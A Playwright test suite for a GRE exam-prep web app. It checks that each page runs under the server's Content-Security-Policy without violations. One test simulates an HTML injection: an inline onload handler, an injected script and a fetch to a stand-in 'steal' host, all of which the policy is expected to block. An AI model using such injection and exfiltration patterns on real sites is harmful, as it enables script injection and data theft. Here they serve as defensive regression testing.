import { examCalls, userCalls, type Answer, type ExamView } from '@gre/contracts';
import type { Locator, Page } from '@playwright/test';
import { CONTENT_SECURITY_POLICY } from '../../apps/server/src/plugins/security-headers';
import { expect, label, shot, test, zh, type Api } from '../fixtures';

/**
 * Every page of the app under the server's real Content-Security-Policy (decision 014), in Chromium: each one must
 * render its main content with no CSP violation — none reported to the page (`securitypolicyviolation`, listened to
 * from an init script, which CDP injects outside the page's CSP) and none on the console ("Refused to …").
 */

/** Violations seen by the watcher of one page, across its navigations. */
interface Watch {
  violations: string[];
}

declare global {
  interface Window {
    __cspWatching?: boolean;
    __cspViolation?: (line: string) => void;
    __pwned?: number;
  }
}

async function watchCsp(page: Page): Promise<Watch> {
  const watch: Watch = { violations: [] };
  const url = () => new URL(page.url()).pathname;
  page.on('console', (msg) => {
    const text = msg.text();
    if (/Content Security Policy|Refused to/i.test(text)) watch.violations.push(`console on ${url()}: ${text}`);
  });
  page.on('pageerror', (err) => {
    if (/Content Security Policy|EvalError/i.test(err.message))
      watch.violations.push(`page error on ${url()}: ${err.message}`);
  });
  await page.exposeFunction('__cspViolation', (line: string) => watch.violations.push(`event on ${url()}: ${line}`));
  await page.addInitScript(() => {
    window.__cspWatching = true;
    document.addEventListener(
      'securitypolicyviolation',
      (e) => {
        const where = e.sourceFile ? ` at ${e.sourceFile}:${e.lineNumber}` : '';
        void window.__cspViolation?.(
          `${e.effectiveDirective} blocked ${e.blockedURI || '(inline)'}${where} ${e.sample}`.trim(),
        );
      },
      true,
    );
  });
  return watch;
}

/**
 * Opens a path as a fresh document, checks the policy it was served with, waits for its main content and for every
 * lazy chunk and call to settle, then requires no violation so far.
 */
async function visit(page: Page, watch: Watch, path: string, ready: (page: Page) => Locator) {
  const res = await page.goto(path);
  expect(res?.headers()['content-security-policy'], `policy on ${path}`).toBe(CONTENT_SECURITY_POLICY);
  await expect(ready(page), `main content of ${path}`).toBeVisible();
  await settle(page);
  expect(
    await page.evaluate(() => window.__cspWatching),
    'the watcher (an init script, injected outside the page policy) is in place',
  ).toBe(true);
  expect(watch.violations, `CSP violations on ${path}`).toEqual([]);
}

async function settle(page: Page) {
  await page.waitForLoadState('networkidle');
  // The violation event is queued as a task after the refused load; give it a turn to arrive.
  await page.evaluate(() => new Promise((done) => setTimeout(done, 50)));
}

const text = (s: string) => (page: Page) => page.getByText(s, { exact: true }).first();
const heading = (s: string | RegExp) => (page: Page) => page.getByRole('heading', { name: s }).first();

const b = zh.bank.pages;
const p = zh.personal;
const r = zh.records;

/** A plausible answer for any input kind, so an exam can be finished through the calls. */
function firstAnswer(item: ExamView['sections'][number]['items'][number]): Answer {
  const im = item.question.input_method;
  const blank: Answer = { selects: [], multi_selects: [], text: '', text2: '', essay: '' };
  switch (im.kind) {
    case 'MultiSelect':
    case 'SixChooseTwo':
      return { ...blank, multi_selects: im.option_groups[0]!.options.slice(0, 2).map((o) => o.key) };
    case 'TextFill':
    case 'Fraction':
      return { ...blank, text: '1', text2: im.kind === 'Fraction' ? '2' : '' };
    case 'Essay':
      return { ...blank, essay: 'A short essay.' };
    case 'SelectSentence':
      return { ...blank, selects: ['0'] };
    default:
      return { ...blank, selects: im.option_groups.map((g) => g.options[0]?.key ?? 'A') };
  }
}

async function finishExam(api: Api, token: string, id: number): Promise<void> {
  let rev = (await api.call(examCalls.start, { id, revision: 0 }, { token })).revision;
  for (let section = 0; ; section++) {
    const view = await api.call(examCalls.get, { id }, { token });
    for (const [i, item] of (view.sections[section]?.items ?? []).entries()) {
      if (i > 0)
        rev = (
          await api.call(examCalls.move, { id, revision: rev, section_index: section, question_index: i }, { token })
        ).revision;
      rev = (
        await api.call(
          examCalls.answer,
          { id, revision: rev, section_index: section, question_index: i, answer: firstAnswer(item) },
          { token },
        )
      ).revision;
    }
    const done = await api.call(examCalls.finishSection, { id, revision: rev, section_index: section }, { token });
    rev = done.revision;
    if (done.status === 'Finished') return;
  }
}

test.describe('every page runs under the Content-Security-Policy', () => {
  test('public pages: login and register, agreement, debug, the API viewer', async ({ page }, testInfo) => {
    const watch = await watchCsp(page);
    await visit(page, watch, '/login', heading(zh.login.title));
    await page.getByRole('tab', { name: zh.login.tabs.register }).click();
    await expect(page.getByRole('form', { name: zh.login.tabs.register })).toBeVisible();
    await page.getByRole('tab', { name: zh.login.tabs.reset }).click();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-login');

    await visit(page, watch, '/agreement', heading(zh.agreement.title));
    await visit(page, watch, '/debug', text(zh.debug.intro));
    await shot(page, testInfo, 'csp-debug');

    // The OpenAPI viewer (Swagger UI) is served by the same server under the same policy.
    const res = await page.goto('/api/docs');
    expect(res?.headers()['content-security-policy']).toBe(CONTENT_SECURITY_POLICY);
    await expect(page.locator('.swagger-ui .info .title')).toContainText('GRE 备考 API');
    await expect(page.locator('.opblock').first()).toBeVisible();
    await settle(page);
    expect(watch.violations, 'CSP violations on /api/docs').toEqual([]);
    await shot(page, testInfo, 'csp-api-docs');
  });

  test('learner pages: home, banks, a book, search, idea, media, analysis, records, personal pages', async ({
    page,
    api,
    loginAs,
  }, testInfo) => {
    test.setTimeout(240_000);
    // An SVIP teacher: sees the higher bank and its personal pages; no other spec uses the account.
    const token = await loginAs('teacher');
    const { id } = await api.call(
      examCalls.create,
      { source: 'simulate', version: 'b-mock-2', select_kind: 'verbal' },
      { token },
    );
    await finishExam(api, token, id);
    const watch = await watchCsp(page);

    // Home with the sign-in calendar (ECharts).
    await visit(page, watch, '/', (pg) => pg.getByRole('heading', { level: 2 }).filter({ hasText: '老师' }));
    await expect(
      page.locator('.ant-card').filter({ hasText: zh.home.signIn.title }).locator('svg').first(),
    ).toBeVisible();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-home');
    await visit(page, watch, '/home', (pg) => pg.getByRole('heading', { level: 2 }).filter({ hasText: '老师' }));

    await visit(page, watch, '/exercise_list', heading(b.exerciseTitle));
    // A book: its drawer, then the practice viewer on its first question.
    await page.getByRole('button', { name: '阅读精选 · 进阶' }).click();
    const drawer = page.getByRole('dialog', { name: '阅读精选 · 进阶' });
    await expect(drawer.locator('.gb-qitem').first()).toBeVisible();
    await drawer.getByRole('button', { name: label(zh.bank.book.start) }).click();
    await expect(page.locator('.gb-viewer .gq-pane-passage')).toBeVisible();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-book');

    await visit(page, watch, '/exercise_list/big?category=3', heading(b.exerciseTitle));
    await visit(page, watch, '/exercise_list/best', heading(b.exerciseTitle));
    await visit(page, watch, '/higher', heading(b.higher.title));
    await visit(page, watch, '/season', heading(b.season.title));
    await visit(page, watch, '/math2', heading(b.math2.title));
    // A math book in the practice viewer: formulas typeset by KaTeX (its fonts and inline styles).
    await page.locator('.gb-book-title').first().click();
    await page
      .getByRole('dialog')
      .getByRole('button', { name: label(zh.bank.book.start) })
      .click();
    await expect(page.locator('.gb-viewer .katex').first()).toBeVisible();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-math-viewer');
    await visit(page, watch, '/archived_pick', heading(b.archivedPick.title));
    await visit(page, watch, '/archived_six_two', heading(b.archivedSixTwo.title));

    await visit(page, watch, '/search?q=三角形', (pg) => pg.locator('.gs-item mark').first());
    await visit(page, watch, '/idea?q=q-issue-002', (pg) => pg.getByRole('list', { name: zh.idea.outline }));

    await visit(page, watch, '/download', heading(zh.media.download.title));
    await visit(page, watch, '/video/v-avg-speed', (pg) => pg.locator('video'));
    // The video streams from /media/video/:id under media-src 'self'.
    const video = page.locator('video');
    await video.evaluate(async (el: HTMLVideoElement) => {
      el.muted = true;
      await el.play();
    });
    await expect
      .poll(() => video.evaluate((el: HTMLVideoElement) => el.readyState), { timeout: 15_000 })
      .toBeGreaterThanOrEqual(2);
    expect(watch.violations).toEqual([]);

    await visit(page, watch, '/analyze', heading(zh.analyze.title));
    await expect(page.getByRole('img', { name: zh.analyze.kinds.accuracyLabel }).locator('svg')).toBeVisible();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-analyze');

    await visit(page, watch, '/simulate', heading(r.simulate.title));
    await visit(page, watch, '/record', heading(r.record.title));
    const report = await api.call(examCalls.report, { book_id: 'b-mock-2', window: 'all' }, { token });
    await visit(page, watch, '/report/b-mock-2', heading(r.report.title(report.title)));
    const chart = page.getByRole('img', { name: r.report.chartLabel(report.title) });
    await expect(chart.locator('svg')).toBeVisible();
    await expect.poll(() => chart.locator('svg path').count()).toBeGreaterThan(10);
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-report');

    await visit(page, watch, '/personal', heading(p.index.title));
    for (const scope of [
      'collect',
      'wrongs',
      'note',
      'higher_collect',
      'higher_wrongs',
      'higher_note',
      'card',
    ] as const) {
      await visit(page, watch, `/personal/${scope}`, heading(p.scopes[scope]));
    }
    await visit(page, watch, '/no/such/page', heading(zh.routeError.title));
  });

  test('an exam: intro, a quant question with KaTeX and a figure, the calculator, the result', async ({
    page,
    api,
    loginAs,
  }, testInfo) => {
    test.setTimeout(120_000);
    const token = await loginAs('teacher');
    // The Chinese screen: a mock opens in ETS mode (the test's English labels) unless switched off.
    await api.call(userCalls.updateExamEtsMode, { ets_mode: false }, { token });
    const { id } = await api.call(
      examCalls.create,
      { source: 'simulate', version: 'b-mock-1', select_kind: 'quant', enable_count_up: true },
      { token },
    );
    const watch = await watchCsp(page);
    const t = zh.exam;

    await visit(page, watch, `/exam/${id}`, (pg) => pg.getByRole('button', { name: t.intro.start }));
    await page.getByRole('button', { name: t.intro.start }).click();
    const main = page.locator('.ge-main');
    await expect(main.locator('.katex').first()).toBeVisible();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-exam-katex');

    // Question 4 of the first Quant section has a figure: an SVG shown through an <img> data: address (img-src data:).
    const bar = page.getByRole('navigation', { name: t.bar.toolbar });
    await bar.getByRole('button', { name: t.bar.review }).click();
    await page.getByRole('button', { name: t.review.goTo(4) }).click();
    const figure = main.locator('.gq-figure img').first();
    await expect(figure).toBeVisible();
    await expect.poll(() => figure.evaluate((img: HTMLImageElement) => img.naturalWidth)).toBeGreaterThan(0);
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-exam-figure');

    await bar.getByRole('button', { name: t.bar.calculator }).click();
    const calc = page.getByRole('region', { name: t.calc.label });
    for (const key of ['1', '2', '加', '3', '等于']) await calc.getByRole('button', { name: key, exact: true }).click();
    await expect(calc.locator('output')).toHaveText('15');
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-exam-calculator');

    // Leaving each of the two sections ends the exam on its result.
    for (const section of ['Quant 第 1 部分', 'Quant 第 2 部分']) {
      await expect(page.locator('.ge-section-name')).toHaveText(section);
      await bar.getByRole('button', { name: t.bar.exit }).click();
      await page
        .getByRole('dialog', { name: t.exitDialog.title })
        .getByRole('button', { name: t.exitDialog.confirm })
        .click();
    }
    await expect(page.getByText(t.result.title, { exact: true })).toBeVisible();
    await settle(page);
    expect(watch.violations).toEqual([]);
    await shot(page, testInfo, 'csp-exam-result');
  });

  test('admin pages: web_manage and sync', async ({ page, loginAs }, testInfo) => {
    await loginAs('admin');
    const watch = await watchCsp(page);
    await visit(page, watch, '/web_manage?tab=system', heading(zh.admin.siteSection));
    await visit(page, watch, '/sync', text(zh.sync.title));
    await shot(page, testInfo, 'csp-sync');
    await visit(page, watch, '/debug', text(zh.debug.intro));
  });
});

test.describe('the watcher and the policy', () => {
  test('an injected inline handler, an injected script and a request elsewhere are refused and reported', async ({
    page,
  }) => {
    const watch = await watchCsp(page);
    await visit(page, watch, '/login', heading(zh.login.title));
    // What an HTML injection would try; page.evaluate itself runs outside the page's policy, the markup does not.
    await page.evaluate(() => {
      document.body.insertAdjacentHTML('beforeend', '<img src="/favicon.svg" onload="window.__pwned = 1">');
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = 2';
      document.body.append(s);
      void fetch('http://example.invalid/steal').catch(() => undefined);
    });
    await expect.poll(() => watch.violations.filter((v) => v.startsWith('event')).length).toBeGreaterThanOrEqual(3);
    expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
    const events = watch.violations.filter((v) => v.startsWith('event')).join('\n');
    expect(events).toContain('script-src-attr');
    expect(events).toContain('script-src-elem');
    expect(events).toContain('connect-src blocked http://example.invalid/steal');
  });

  test('a policy without unsafe-inline styles is caught on the first page', async ({ page }) => {
    const watch = await watchCsp(page);
    // The document's policy rewritten the way a too-strict configuration would send it.
    await page.route('**/login', async (route) => {
      const res = await route.fetch();
      const csp = res.headers()['content-security-policy']!.replace(" 'unsafe-inline'", '');
      await route.fulfill({ response: res, headers: { ...res.headers(), 'content-security-policy': csp } });
    });
    await page.goto('/login');
    await expect.poll(() => watch.violations.join('\n')).toMatch(/style-src-elem blocked inline/);
  });
});
